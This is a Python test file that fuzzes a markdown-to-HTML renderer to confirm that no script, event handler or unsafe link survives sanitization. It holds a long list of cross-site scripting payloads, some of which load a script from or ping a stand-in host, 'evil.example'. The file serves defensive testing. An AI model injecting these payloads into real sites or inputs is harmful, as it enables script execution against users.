"""Nothing that runs, loads or asks for something gets from a statement to a page."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nomflow.core.markdown.html import to_html
from nomflow.core.markdown.parse import parse

TAGS = """
a abbr b blockquote br caption cite code dd del details dfn dl dt em figcaption figure h3 h4 h5 h6 hr i img ins kbd li
mark ol p pre q rp rt ruby s samp small strong sub summary sup table tbody td tfoot th thead time tr ul var wbr
"""
ATTRIBUTES = {
    "a": {"href", "title", "rel", "id", "aria-label"},
    "abbr": {"title"},
    "details": {"open"},
    "img": {"src", "alt", "title", "loading"},
    "li": {"id", "value"},
    "ol": {"start"},
    "td": {"align", "colspan", "rowspan"},
    "th": {"align", "colspan", "rowspan"},
    "time": {"datetime"},
    "h3": {"id"},
    "h4": {"id"},
    "h5": {"id"},
    "h6": {"id"},
}

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:x onerror\n=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='javascript:alert(1)'><input type=submit></form>",
    "<form id=f></form><button form=f formaction='javascript:alert(1)'>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style>@import 'javascript:alert(1)'; body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<link rel=stylesheet href='javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script&colon;alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a> <a href='data:text/html,<script>alert(1)</script>'>y</a>",
    "<a href='//evil.example' onmouseover=alert(1)>x</a>",
    "<a href=https://e.org target=_blank ping=https://evil.example>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '[x](https://e.org "\\" onmouseover=\\"alert(1)")',
    '![x" onerror="alert(1)](https://e.org/p.png)',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![x](ok.png "t\\" onload=\\"alert(1)")',
    "`<script>alert(1)</script>`",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></p><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<table background='javascript:alert(1)'><td background=javascript:alert(1)>x</table>",
    "<h1 id=body onclick=alert(1)>x</h1>",
    "# <img src=x onerror=alert(1)> <a id=s-x name=y>z</a>",
    "# &lt;script&gt;alert(1)&lt;/script&gt;",
    "x[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: y",
    'x[^"onclick=alert]\n\n[^"onclick=alert]: y',
    "<li id='fn-1\" onclick=\"alert(1)'>x</li> <a id='fnref-1' href='#fn-1'>y</a>",
    "<input type=checkbox checked onclick=alert(1)>",
    '```"><script>alert(1)</script>\ncode\n```',
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "<a href='https://e.org/\"><script>alert(1)</script>'>x</a>",
    "<p data-sourcepos='1:1-1:1' data-x=y>x</p>",
    "<b>" * 50 + "<script>alert(1)",
    "<div><style>x</style><p><b></div></b><img src=x onerror=alert(1)",
]


class Strict(HTMLParser):
    """Fails on anything that is not on the list; keeps the ids."""

    def __init__(self) -> None:
        super().__init__()
        self.ids: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS.split()
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, set()) | {"lang", "dir"}, f"{tag} {name}"
            if name == "href":
                assert str(value).lower().startswith(("https://", "http://", "mailto:", "#s-"))
            if name == "src":
                assert value == "/p/1.webp"
            if name == "id":
                assert str(value).startswith("s-")
                self.ids.append(str(value))

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)


def check(body: str) -> None:
    for raw_html in (True, False):
        page = to_html(parse(body, "f.md"), raw_html=raw_html, images={"ok.png": "/p/1.webp"})
        reader = Strict()
        reader.feed(page.html)
        reader.close()
        assert len(set(reader.ids)) == len(reader.ids)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_of_it_can_run(payload: str) -> None:
    check(payload)
    check(f"<div>\n{payload}\n\n> - {payload}\n\n</div>\n")
    check(f"text {payload} **text {payload}**")


PIECES = (
    "<¦>¦</¦/>¦a¦b ¦script¦img¦svg¦style¦title¦table¦td¦pre¦math¦mtext¦ src=x¦ href=¦javascript:¦ onerror=alert(1)¦'¦\""
    "¦=¦&#106;¦&colon;¦<!--¦-->¦]]>¦`¦\n¦\n\n¦[x](¦)¦![¦](¦# ¦> ¦- ¦[^1]¦\n[^1]: ¦ id=fn-1¦<a¦<p¦<li¦</p>¦</a>¦<details"
    "¦<input type=checkbox¦\0¦\t¦&lt;¦|¦\n|-|-|\n¦https://e.org"
)


@given(st.lists(st.sampled_from(PIECES.split("¦")), max_size=25).map("".join))
def test_no_mixture_of_it_can_run(body: str) -> None:
    check(body)
